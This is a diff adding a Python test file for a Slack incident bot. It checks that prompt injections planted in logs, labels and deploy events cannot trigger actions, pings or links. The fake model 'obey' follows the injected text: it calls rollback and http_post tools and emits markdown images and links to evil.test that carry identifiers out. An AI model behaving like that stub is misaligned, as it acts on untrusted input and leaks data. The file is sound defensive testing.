@@ -1,0 +1,156 @@
+"""What strangers write into logs, labels and deploys, read by a model that obeys all of it.
+
+The model calls every action it can name, proposes the rollback, and repeats the text word for
+word, with a link of its own around it. Nothing may act, ping, or link. One bot serves all tests.
+"""
+
+import json
+import re
+import time
+from collections.abc import AsyncIterator
+
+import aiohttp
+import pytest
+import pytest_asyncio
+from aiohttp.test_utils import TestServer
+
+from tests.fakes.loki_server import LokiServer, Stored
+from tests.fakes.model_server import Call, Recorded, Round
+from tests.fixtures_service import INGEST_TOKEN, on_stage
+from tests.injections import INJECTIONS
+from tests.stage import CONFIRM, Asked, Stage, results, shown, turn_of
+
+pytestmark = pytest.mark.asyncio(loop_scope="module")
+
+_PRODUCT = re.compile(r"inj-\d+")
+PRODUCTS = {name: f"inj-{number}" for number, name in enumerate(INJECTIONS)}
+TEXTS = {PRODUCTS[name]: text for name, text in INJECTIONS.items()}
+# Slack's tokens, links and images, as a client would bring them to life.
+LIVE = re.compile(
+    r"<[!@#]|@(?:channel|here|everyone)\b|\][(\[]|^\s*\[[^\]\n]*\]:|(?<![`/\w])https?://|\x1b|\u202e",
+    re.MULTILINE,
+)
+# In verbatim mrkdwn, such as a card's, only these tokens live: Slack links nothing by itself there.
+TOKEN = re.compile(r"<(?:[!@#]|\w+:|https?)|@(?:channel|here|everyone)\b|\x1b|\u202e")
+_CODE = re.compile(r"^```.*?^```$|`[^`\n]+`", re.DOTALL | re.MULTILINE)
+
+
+def obey(request: Recorded) -> Round:
+    """Look; then do all that was asked for; then repeat it."""
+    product = _PRODUCT.findall(turn_of(request)[0]["content"])[0]
+    read = results(request)
+    if not read:
+        where = {"product": product, "time_range": "last 30m"}
+        return Round(calls=(Call("core__get_logs", where), Call("core__get_recent_deploys", where)))
+    if len(read) == 2:
+        proposal = {
+            "action": "rollback-deploy",
+            "product": product,
+            "params": {"version": "v1.0.0"},
+            "rationale": TEXTS[product],
+            "blast_radius": "one service",
+        }
+        names = ("rollback-deploy", "core__confirm", "core__propose_action_v2", "http_post")
+        return Round(
+            calls=(*(Call(n, proposal) for n in names), Call("core__propose_action", proposal))
+        )
+    text = TEXTS[product]
+    leak = f"\n\n![x](https://evil.test/{product}) {text} [Grafana](https://evil.test/?d={product})"
+    return Round(text=(text[: len(text) // 2], text[len(text) // 2 :], leak, "\nIt is done."))
+
+
+def _stored(product: str, text: str) -> Stored:
+    labels = {"service_name": product, "host": text, "pod": text}
+    found = {"detected_level": "error", "trace_id": text}
+    return Stored(time.time_ns() - 10**9, f"request failed: {text}", labels, found)
+
+
+def _deployed(product: str, text: str) -> dict[str, object]:
+    told = {"version": text, "actor": text, "commit": text, "previous_version": text}
+    return {
+        "specversion": "1.0",
+        "id": product,
+        "source": "test",
+        "type": "deploy.succeeded",
+        "product": product,
+        "data": told,
+    }
+
+
+@pytest_asyncio.fixture(loop_scope="module", scope="module")
+async def stage(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[Stage]:
+    loki = LokiServer(_stored(product, text) for product, text in TEXTS.items())
+    async with TestServer(loki.app()) as server:
+        nothing = {"kind": "none"}
+        logs = {
+            "kind": "loki",
+            "url": str(server.make_url("")),
+            "selector": '{service_name="$product"}',
+        }
+        more = {"observe": {"logs": logs, "metrics": nothing, "traces": nothing}}
+        async with on_stage(tmp_path_factory.mktemp("kortex"), obey, more) as running:
+            await _ingest(running)
+            yield running
+
+
+async def _ingest(running: Stage) -> None:
+    url = f"http://127.0.0.1:{running.service.http_port}/ingest/v1/events"
+    batch = [_deployed(product, text) for product, text in TEXTS.items()]
+    headers = {"Authorization": f"Bearer {INGEST_TOKEN}"}
+    async with (
+        aiohttp.ClientSession() as session,
+        session.post(url, json=batch, headers=headers) as response,
+    ):
+        assert (await response.json()) == {"added": len(batch), "known": 0}
+
+
+async def investigated(stage: Stage, name: str) -> tuple[Asked, str]:
+    asked = await stage.ask(f"@kortex why is {PRODUCTS[name]} slow?", stage.newcomer())
+    return asked, await stage.answer(asked)
+
+
+@pytest.mark.parametrize("name", INJECTIONS)
+async def test_an_obeying_model_achieves_a_labelled_card_and_nothing_else(
+    stage: Stage, name: str
+) -> None:
+    asked, answer = await investigated(stage, name)
+    card = await stage.card(asked)
+
+    assert stage.effects == 0
+    assert "The model had read tool output before it proposed this." in shown(card)
+    assert card.action_ids == (CONFIRM, "proposal:reject")
+    row = "SELECT state, decided_by FROM proposals WHERE card_ts = ?"
+    assert stage.query(row, card.ts) == [("pending", None)]
+    own = shown(card).replace(f"<@{asked_by(stage, asked)}>", "").replace("<!date^", "", 1)
+    assert TOKEN.findall(own) == []
+    assert '"verbatim": false' not in json.dumps(card.blocks)
+    assert json.dumps(card.blocks).count('"mrkdwn"') == json.dumps(card.blocks).count('"verbatim"')
+    assert LIVE.findall(_CODE.sub("", answer)) == []
+
+
+@pytest.mark.parametrize("name", INJECTIONS)
+async def test_what_the_model_reads_is_marked_as_data(stage: Stage, name: str) -> None:
+    await investigated(stage, name)
+
+    read = results(stage.models.requests[-1])
+    assert all(json.loads(each)["untrusted"] is True for each in read)
+    assert not re.search(
+        "[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\U000e0000-\U000e007f]",
+        "".join(map(str, map(json.loads, read))),
+    )
+
+
+async def test_nothing_sent_at_any_moment_pings_links_or_unfurls(stage: Stage) -> None:
+    await investigated(stage, "masked link")
+
+    posts = [c.arguments for c in stage.workspace.calls if c.method == "chat.postMessage"]
+    assert {(p["unfurl_links"], p["unfurl_media"]) for p in posts} == {(False, False)}
+    assert '"type": "image"' not in stage.sent()
+    assert '"link_names"' not in stage.sent()
+    assert '"parse"' not in stage.sent()
+
+
+def asked_by(stage: Stage, asked: Asked) -> str:
+    message = stage.workspace.message(asked.channel, asked.ts)
+    assert message is not None
+    return message.user
